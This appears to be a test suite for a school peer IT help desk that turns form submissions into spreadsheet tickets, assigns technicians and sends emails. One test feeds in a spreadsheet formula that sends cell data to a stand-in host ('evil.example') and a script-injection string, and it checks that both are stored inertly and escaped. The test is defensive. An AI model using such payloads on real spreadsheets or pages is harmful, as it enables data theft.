import {
  activity,
  allCompleted,
  chicago,
  exampleDesk,
  PROJECTOR_DOWN,
  sheetsRoundTrips,
  TEACHER,
  tickets,
  reportProjectorDown,
} from '../../support/peer-desk';

const LIAM = 'liam.obrien@students.example.org';
const MAYA = 'maya.patel@students.example.org';

describe('a teacher reports a problem through the form', () => {
  it('becomes one ticket, assigned to the skilled tech on duty, with emails to all concerned', () => {
    const ws = exampleDesk();
    // 09:10 on an A day is period 2: Ava Chen and Liam O'Brien are on duty at North; Liam does projectors.
    reportProjectorDown(ws);

    const [ticket] = tickets(ws);
    expect(ticket).toMatchObject({
      'Ticket ID': 'T-000001',
      Status: 'Assigned',
      Assignee: "Liam O'Brien",
      Priority: 'P1',
      Campus: 'North Campus',
      Room: '214',
      Summary: 'Projector shows no signal',
      Requester: TEACHER,
      Language: 'English',
      Period: '2',
      'Assignment Note':
        "Assigned to Liam O'Brien: on duty (North Campus, A day period 2), 0 open tickets.",
    });
    // The ticket row owes its Activity lines; the next sweep writes them.
    expect(activity(ws)).toEqual([]);
    ws.advanceTo(chicago('2026-11-23 09:15'));
    expect(activity(ws)).toEqual([
      `T-000001 Ticket:  → Created from the form: P1, assigned to ${LIAM} (${TEACHER})`,
      'T-000001 Self-Help Suggested:  → Projector shows "No signal"\nProjector image dim or flickering\nSmartboard touch or pen not working (Peer Desk intake)',
    ]);
    expect(ws.outbox.map(m => [m.to, m.subject])).toEqual([
      [[TEACHER], '[T-000001] We got your request: Projector shows no signal'],
      [[LIAM], '[T-000001] P1 for you: Projector shows no signal'],
      [[MAYA], "[T-000001] Your junior Liam O'Brien has a new P1 ticket"],
    ]);
    const confirmation = ws.outbox[0];
    // The status line names the tech by first name; the priority is explained, not "P1".
    expect(confirmation.body).toContain(
      'Liam is on it and will contact you if they need anything.'
    );
    expect(confirmation.body).toContain('How urgent: Urgent: handled first');
    expect(confirmation.body).not.toMatch(/Priority: P1|@|Device/);
    expect(confirmation.body).toContain(
      '- Projector shows "No signal": Check both ends of the HDMI cable'
    );
    expect(confirmation.htmlBody).toContain(
      '<strong><bdi>Projector shows &quot;No signal&quot;</bdi></strong>'
    );
  });

  it('stores hostile answers verbatim as text and escapes them in email', () => {
    const ws = exampleDesk();
    const hostile = '=IMPORTXML("http://evil.example/?q="&A1,"//a")';
    allCompleted(
      ws.submitForm(
        {
          ...PROJECTOR_DOWN,
          'Short summary': hostile,
          Room: '+1',
          Details: '<script>alert(1)</script>',
          'Device asset tag': '@00123',
        },
        {as: TEACHER, at: chicago('2026-11-23 09:10')}
      )
    );
    const sheet = ws.sheet('Tickets');
    expect(tickets(ws)[0]).toMatchObject({
      Summary: hostile,
      Room: '+1',
      'Asset Tag': '@00123',
      Details: '<script>alert(1)</script>',
    });
    expect(sheet.hostCell('K2').formula).toBe('');
    expect(ws.outbox[1].htmlBody).toContain(
      '><bdi>&lt;script&gt;alert(1)&lt;/script&gt;</bdi></td>'
    );
    expect(ws.outbox[1].htmlBody).not.toContain('<script>');
  });

  it('makes exactly one ticket from duplicate and blank submit events', () => {
    const ws = exampleDesk();
    ws.faults.duplicateNextSubmit(2);
    ws.faults.blankEventAfterNextSubmit(3000);
    reportProjectorDown(ws);
    expect(tickets(ws).map(t => t['Ticket ID'])).toEqual(['T-000001']);
    expect(ws.outbox.filter(m => m.to.includes(TEACHER))).toHaveLength(1);
  });

  it('numbers tickets without gaps and answers in Spanish when asked', () => {
    const ws = exampleDesk();
    for (const [i, room] of ['101', '102', '103'].entries())
      allCompleted(
        ws.submitForm(
          {
            ...PROJECTOR_DOWN,
            Room: room,
            Category: 'Chromebook',
            'Who is affected?': 'Just me',
            'How urgent is it?': 'Today is fine',
            'Preferred language / Idioma preferido':
              i === 1 ? 'Español (Spanish)' : 'English',
          },
          {as: `t${i}@school.example`, at: chicago(`2026-11-23 10:0${i}`)}
        )
      );
    expect(tickets(ws).map(t => [t['Ticket ID'], t.Priority])).toEqual([
      ['T-000001', 'P4'],
      ['T-000002', 'P4'],
      ['T-000003', 'P4'],
    ]);
    const spanish = ws.outbox.find(m => m.to.includes('t1@school.example'));
    expect(spanish?.subject).toBe(
      '[T-000002] Recibimos su solicitud: Projector shows no signal'
    );
    expect(spanish?.body).toContain(
      'Gracias. Su solicitud es el ticket T-000002.'
    );
  });

  it('links a possible duplicate and gives it to the same tech', () => {
    const ws = exampleDesk();
    reportProjectorDown(ws);
    allCompleted(
      ws.submitForm(
        {...PROJECTOR_DOWN, 'Short summary': 'Room 214 projector broken'},
        {as: 'aide@school.example', at: chicago('2026-11-23 10:50')}
      )
    );
    expect(tickets(ws)[1]).toMatchObject({
      'Ticket ID': 'T-000002',
      Assignee: "Liam O'Brien",
      'Duplicate Of': 'T-000001',
      'Assignment Note':
        "Possible duplicate of T-000001: given to Liam O'Brien, who has it.",
    });
    expect(
      ws.outbox.find(m => m.to.includes('aide@school.example'))?.body
    ).toContain(
      'It looks like the same problem as ticket T-000001, so the same tech will handle both.'
    );
  });

  it('waits unassigned with the reason when nobody is on duty, then the sweep assigns it', () => {
    const ws = exampleDesk();
    reportProjectorDown(ws, '2026-11-23 07:40');
    expect(tickets(ws)[0]).toMatchObject({
      Status: 'New',
      Assignee: '',
      'Assignment Note':
        'Waiting: nobody on duty. 07:40 on A day 2026-11-23 is outside the bell periods in Schedule.',
    });
    // Not "nobody is on duty": the teacher hears when the next tech comes on duty (period 1).
    expect(ws.outbox[0].body).toContain(
      'A tech comes on duty at 08:00 and will pick it up.'
    );
    // Period 1 starts at 08:00; the 5-minute sweep hands the ticket to Maya Patel (skills: All).
    allCompleted(
      ws
        .advanceTo(chicago('2026-11-23 08:06'))
        .filter(r => r.functionName === 'sweep')
    );
    expect(tickets(ws)[0]).toMatchObject({
      Status: 'Assigned',
      Assignee: 'Maya Patel',
    });
    expect(activity(ws)).toContain(
      'T-000001 Assignee:  → Maya Patel (Peer Desk sweep)'
    );
    expect(ws.outbox.map(m => m.to[0])).toContain(MAYA);
    // By default the teacher hears no more until it is resolved: who took it is on their page.
    expect(
      ws.outbox.filter(m => m.to.includes(TEACHER)).map(m => m.subject)
    ).toEqual(['[T-000001] We got your request: Projector shows no signal']);
  });

  it('picks up a response whose trigger never completed', () => {
    const ws = exampleDesk();
    ws.advanceTo(chicago('2026-11-23 09:10'));
    ws.faults.killAtCall(1);
    const [killed] = ws.submitForm(PROJECTOR_DOWN, {as: TEACHER});
    expect(killed.outcome).toBe('killed');
    expect(tickets(ws)).toEqual([]);
    ws.advanceTo(chicago('2026-11-23 09:16'));
    expect(tickets(ws).map(t => [t['Ticket ID'], t.Requester])).toEqual([
      ['T-000001', TEACHER],
    ]);
    ws.advanceTo(chicago('2026-11-23 09:30'));
    expect(tickets(ws)).toHaveLength(1);
  });

  it('keeps one ticket per response when the coordinator reformats the Timestamp column', () => {
    const ws = exampleDesk();
    reportProjectorDown(ws);
    // A person changes how the response sheet shows its timestamps; the sweeps that follow must
    // still recognise the response as already ticketed.
    ws.sheet('Form Responses 1').getRange('A2:A').setNumberFormat('yyyy-mm-dd');
    ws.advanceTo(chicago('2026-11-23 09:40'));
    expect(tickets(ws).map(t => t['Ticket ID'])).toEqual(['T-000001']);
    expect(ws.outbox.filter(m => m.to.includes(TEACHER))).toHaveLength(1);
  });

  it('waits for the script lock, and a submission that times out is picked up later with the next ID', () => {
    const ws = exampleDesk();
    ws.advanceTo(chicago('2026-11-23 09:10'));
    ws.faults.holdScriptLock(new Date(ws.now().getTime() + 10_000));
    const [waited] = ws.submitForm(PROJECTOR_DOWN, {as: TEACHER});
    expect(waited.outcome).toBe('completed');
    expect(waited.modelledMs).toBeGreaterThanOrEqual(10_000);
    ws.faults.lockTimeout();
    const [timedOut] = ws.submitForm(
      {...PROJECTOR_DOWN, Room: '300'},
      {as: 'b@school.example'}
    );
    expect(timedOut.outcome).toBe('failed');
    expect(timedOut.error).toBe(
      'Exception: Lock timeout: another process was holding the lock for too long.'
    );
    allCompleted(
      ws.submitForm({...PROJECTOR_DOWN, Room: '301'}, {as: 'c@school.example'})
    );
    ws.advanceTo(chicago('2026-11-23 09:20'));
    expect(tickets(ws).map(t => [t['Ticket ID'], t.Room])).toEqual([
      ['T-000001', '214'],
      ['T-000002', '301'],
      ['T-000003', '300'],
    ]);
  });

  it('asks Apps Script once for every Script Property and not at all for the web app’s URL the settings snapshot holds', () => {
    const ws = exampleDesk();
    reportProjectorDown(ws);
    const [second] = ws.submitForm(PROJECTOR_DOWN, {
      as: 'b@school.example',
      at: chicago('2026-11-23 09:12'),
    });
    // Once before the script lock and once after it, when another execution may have written.
    expect(second.calls['PropertiesService.Properties.getProperties']).toBe(2);
    expect(second.calls['PropertiesService.Properties.getProperty']).toBe(
      undefined
    );
    expect(second.calls['ScriptApp.getService']).toBe(undefined);
    const confirmation = ws.outbox.find(m => m.to.includes('b@school.example'));
    expect(confirmation?.body).toMatch(/^Your requests: https:\/\/\S+/m);
  });

  // The ledger's last rows, the Outbox row, the ticket row, its record and the flush before the
  // lock is released; the Activity lines are left to the sweep.
  it('costs at most 5 Spreadsheet round trips per submission', () => {
    const ws = exampleDesk();
    reportProjectorDown(ws);
    const [second] = ws.submitForm(PROJECTOR_DOWN, {
      as: 'b@school.example',
      at: chicago('2026-11-23 09:12'),
    });
    expect(sheetsRoundTrips(second)).toBeLessThanOrEqual(5);
  });
});
